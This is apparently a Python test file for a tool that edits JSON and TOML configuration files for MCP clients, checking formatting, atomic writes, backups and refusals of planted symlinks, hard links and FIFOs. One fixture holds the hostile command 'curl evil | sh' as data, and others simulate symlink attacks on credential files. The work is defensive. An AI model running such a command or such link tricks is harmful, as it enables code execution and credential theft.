"""``awf_mcp.clients.editors``: order-keeping JSON edits, line-exact TOML edits, all-or-nothing writes."""

from __future__ import annotations

import json
import os
import stat
import tomllib
from pathlib import Path

import pytest

from awf_mcp.clients import editors
from awf_mcp.errors import UserError


def test_toml_table_renders_values_then_sub_tables_without_empty_headers() -> None:
    text = editors.toml_table(
        ("mcp_servers", "my server"),
        {"command": "/a b", "args": ["x", 'q"'], "required": True, "tools": {"Read": {"mode": "approve"}}},
    )
    assert text == (
        '[mcp_servers."my server"]\ncommand = "/a b"\nargs = ["x", "q\\""]\nrequired = true\n\n'
        '[mcp_servers."my server".tools.Read]\nmode = "approve"\n'
    )
    assert tomllib.loads(text)["mcp_servers"]["my server"]["tools"] == {"Read": {"mode": "approve"}}


def test_set_entry_keeps_user_keys_and_drops_owned_keys_it_no_longer_sets(tmp_path: Path) -> None:
    edit = editors.json_edit(editors.set_entry(("servers", "awf"), {"command": "new"}, owned=("trust",)))
    old = json.dumps({"servers": {"awf": {"env": {"A": "1"}, "command": "old", "trust": True}}})
    assert json.loads(edit(old, tmp_path / "f.json")) == {
        "servers": {"awf": {"env": {"A": "1"}, "command": "new"}}
    }


def test_toml_replace_table_refuses_a_table_defined_by_dotted_keys(tmp_path: Path) -> None:
    edit = editors.toml_replace_table(("a", "b"), "[a.b]\nx = 1\n")
    with pytest.raises(UserError, match=r"defines a\.b without a \[a\.b\] table"):
        edit("a.b.x = 2\n", tmp_path / "c.toml")
    assert (
        edit("# kept\n[a.b]\nx = 2\n\n[c]\ny = 3\n", tmp_path / "c.toml")
        == "# kept\n[a.b]\nx = 1\n\n[c]\ny = 3\n"
    )


def test_apply_edits_writes_nothing_when_any_file_is_broken(tmp_path: Path) -> None:
    good, bad = tmp_path / "good.json", tmp_path / "bad.json"
    bad.write_text("{")
    add = editors.json_edit(editors.add_to_list(("allow",), ["x"]))
    with pytest.raises(UserError, match="not valid JSON"):
        editors.apply_edits([editors.Edit(good, "json", add), editors.Edit(bad, "json", add)])
    assert not good.exists() and bad.read_text() == "{"


def test_apply_edits_is_idempotent_and_keeps_a_backup(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_text('{"allow": []}')
    add = editors.Edit(path, "json", editors.json_edit(editors.add_to_list(("allow",), ["x"])))
    first = editors.apply_edits([add])
    assert first.changed == [path] and first.backups == [tmp_path / "s.json.bak"]
    second = editors.apply_edits([add])
    assert second.changed == [] and second.unchanged == [path]
    assert second.summary() == f"{path} already up to date: nothing changed"


# --------------------------------------------------------------------------- single TOML keys, JSONC


def test_toml_set_keys_replaces_removes_and_adds_lines_in_place(tmp_path: Path) -> None:
    where = tmp_path / "c.toml"
    old = '# top\n[features]\nkeep = 1  # mine\nflip = true\ngone = "x"\n\n# trailing\n[other]\na = 1\n'
    new = editors.toml_set_keys(("features",), {"flip": False, "gone": None, "added": False})(old, where)
    assert (
        new
        == "# top\n[features]\nkeep = 1  # mine\nflip = false\nadded = false\n\n# trailing\n[other]\na = 1\n"
    )
    assert editors.toml_set_keys(("features",), {"x": True})(None, where) == "[features]\nx = true\n"
    assert editors.toml_set_keys(("features",), {"x": None})("a = 1\n", where) == "a = 1\n"


def test_toml_set_keys_refuses_what_it_cannot_edit_line_by_line(tmp_path: Path) -> None:
    where = tmp_path / "c.toml"
    with pytest.raises(UserError, match=r"defines features without a \[features\] table"):
        editors.toml_set_keys(("features",), {"x": True})("features.y = 1\n", where)
    with pytest.raises(UserError, match="cannot edit"):
        editors.toml_set_keys(("features",), {"x": True})("[features]\nx = [\n  1,\n]\n", where)
    # A header inside a multi-line string is text, not a table.
    text = 'note = """\n[features]\n"""\n'
    assert tomllib.loads(editors.toml_set_keys(("features",), {"x": True})(text, where)) == {
        "note": "[features]\n",
        "features": {"x": True},
    }


def test_strip_jsonc_keeps_strings_and_drops_comments_and_trailing_commas() -> None:
    text = '{\n  // line\n  "a": "http://x/*y*/", /* block\n over lines */ "b": [1, 2,], // end\n}\n'
    assert editors.loads_json(text, comments=True) == {"a": "http://x/*y*/", "b": [1, 2]}
    with pytest.raises(json.JSONDecodeError):
        editors.loads_json(text)


def test_remove_from_list_removes_only_the_items_and_what_it_leaves_empty(tmp_path: Path) -> None:
    edit = editors.json_edit(editors.remove_from_list(("p", "deny"), ["A", "B"]))
    where = tmp_path / "s.json"
    assert json.loads(edit('{"p": {"deny": ["A", "C"], "allow": []}}', where)) == {
        "p": {"deny": ["C"], "allow": []}
    }
    assert json.loads(edit('{"p": {"deny": ["A", "B"]}, "x": 1}', where)) == {"x": 1}
    assert json.loads(edit('{"x": 1}', where)) == {"x": 1}


def test_an_unreadable_file_says_what_is_wrong_apart_from_its_path_and_advice(tmp_path: Path) -> None:
    where = tmp_path / "c.json"
    with pytest.raises(editors.UnreadableFile) as bad_json:
        editors.parse_json('{"a": ', where)
    assert bad_json.value.path == where and bad_json.value.reason.startswith("is not valid JSON (")
    assert str(bad_json.value).startswith(f"{where} {bad_json.value.reason}; not touching it")
    with pytest.raises(editors.UnreadableFile, match="not valid TOML") as bad_toml:
        editors.parse_toml("a = \n", where)
    assert bad_toml.value.reason.startswith("is not valid TOML (")
    where.write_bytes(b"\xff")
    with pytest.raises(editors.UnreadableFile) as not_text:
        editors.read(where)
    assert not_text.value.reason == "is not UTF-8 text"


# --------------------------------------------------------------------------- links, backups, text


def json_add(path: Path, project: Path | None = None) -> editors.Edit:
    return editors.Edit(path, "json", editors.json_edit(editors.add_to_list(("allow",), ["x"])), project)


def test_a_dangling_link_at_the_backup_name_is_not_followed(tmp_path: Path) -> None:
    # A repository plants `.mcp.json.bak -> ../home/.bash_profile`, which does not exist yet.
    project, home = tmp_path / "repo", tmp_path / "home"
    project.mkdir()
    home.mkdir()
    (project / "s.json").write_text('{"attacker": "curl evil | sh"}')
    (project / "s.json.bak").symlink_to("../home/.bash_profile")
    report = editors.apply_edits([json_add(project / "s.json", project)])
    assert not (home / ".bash_profile").exists() and not os.path.lexists(home / ".bash_profile")
    assert (project / "s.json.bak").is_symlink()
    [copy] = report.backups
    assert copy != project / "s.json.bak" and not copy.is_symlink()
    assert copy.read_text() == '{"attacker": "curl evil | sh"}'


def test_a_link_at_the_backup_name_to_an_existing_file_is_never_written(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine\n")
    (tmp_path / "s.json").write_text("{}")
    (tmp_path / "s.json.bak").symlink_to(victim)
    editors.apply_edits([json_add(tmp_path / "s.json")])
    assert victim.read_text() == "mine\n"


def test_a_project_file_that_is_a_link_is_refused_untouched(tmp_path: Path) -> None:
    # `.mcp.json -> ~/.docker/config.json`: nothing may be read, copied or written through it.
    project, secret = tmp_path / "repo", tmp_path / "credentials.json"
    project.mkdir()
    secret.write_text('{"auths": {"x": "s3cret"}}')
    (project / ".mcp.json").symlink_to(secret)
    with pytest.raises(UserError, match=r"\.mcp\.json is a symbolic link; .* remove the link"):
        editors.apply_edits([json_add(project / ".mcp.json", project)])
    assert secret.read_text() == '{"auths": {"x": "s3cret"}}'
    assert sorted(p.name for p in project.iterdir()) == [".mcp.json"]


def test_a_project_directory_that_is_a_link_is_refused(tmp_path: Path) -> None:
    project, elsewhere = tmp_path / "repo", tmp_path / "elsewhere"
    project.mkdir()
    elsewhere.mkdir()
    (project / ".claude").symlink_to(elsewhere)
    good = json_add(project / "ok.json", project)
    with pytest.raises(UserError, match=r"\.claude is a symbolic link"):
        editors.apply_edits([good, json_add(project / ".claude" / "settings.json", project)])
    assert list(elsewhere.iterdir()) == [] and not (project / "ok.json").exists()


def test_a_project_file_with_another_hard_link_is_refused(tmp_path: Path) -> None:
    project, secret = tmp_path / "repo", tmp_path / "credentials.json"
    project.mkdir()
    secret.write_text("{}")
    os.link(secret, project / ".mcp.json")
    with pytest.raises(UserError, match="other hard link"):
        editors.apply_edits([json_add(project / ".mcp.json", project)])
    assert secret.read_text() == "{}" and not (project / ".mcp.json.bak").exists()


def test_the_users_own_link_is_written_through_and_kept(tmp_path: Path) -> None:
    # A dotfile manager: ~/.claude.json -> dotfiles/claude.json.
    home = tmp_path / "home"
    (home / "dotfiles").mkdir(parents=True)
    real = home / "dotfiles" / "claude.json"
    real.write_text('{"theme": "dark"}')
    real.chmod(0o600)
    (home / ".claude.json").symlink_to("dotfiles/claude.json")
    report = editors.apply_edits([json_add(home / ".claude.json")])
    assert (home / ".claude.json").is_symlink() and os.readlink(
        home / ".claude.json"
    ) == "dotfiles/claude.json"
    assert json.loads(real.read_text()) == {"theme": "dark", "allow": ["x"]}
    assert report.changed == [home / ".claude.json"] and report.backups == [home / ".claude.json.bak"]
    assert (home / ".claude.json.bak").read_text() == '{"theme": "dark"}'
    assert stat.S_IMODE(real.stat().st_mode) == 0o600
    assert stat.S_IMODE((home / ".claude.json.bak").stat().st_mode) == 0o600
    assert sorted(p.name for p in (home / "dotfiles").iterdir()) == ["claude.json"]


def test_an_existing_backup_is_kept_and_the_new_one_gets_a_name_of_its_own(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_bytes(b'{"allow": []}\r\n')
    (tmp_path / "s.json.bak").write_text("the user's own backup")
    [copy] = editors.apply_edits([json_add(path)]).backups
    assert (tmp_path / "s.json.bak").read_text() == "the user's own backup"
    assert copy.name.startswith("s.json.2") and copy.read_bytes() == b'{"allow": []}\r\n'


def test_toml_strings_escape_del_and_refuse_lone_surrogates() -> None:
    text = "a = " + editors.toml_str("x\x7fy") + "\n"
    assert "\x7f" not in text and tomllib.loads(text) == {"a": "x\x7fy"}
    with pytest.raises(ValueError, match="lone surrogate"):
        editors.toml_str("x\ud800")
    with pytest.raises(TypeError, match="no form for null"):
        editors.toml_value([1, None])


def test_a_lone_surrogate_in_a_json_file_is_written_back_as_its_escape(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_text('{"k": "a\\ud800b"}')
    editors.apply_edits([json_add(path)])
    assert json.loads(path.read_text()) == {"k": "a\ud800b", "allow": ["x"]}


def test_a_fifo_planted_at_a_config_name_is_refused_at_once(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / ".mcp.json")
    with pytest.raises(editors.UnreadableFile, match="not a regular file"):
        editors.apply_edits([json_add(tmp_path / ".mcp.json", tmp_path)])
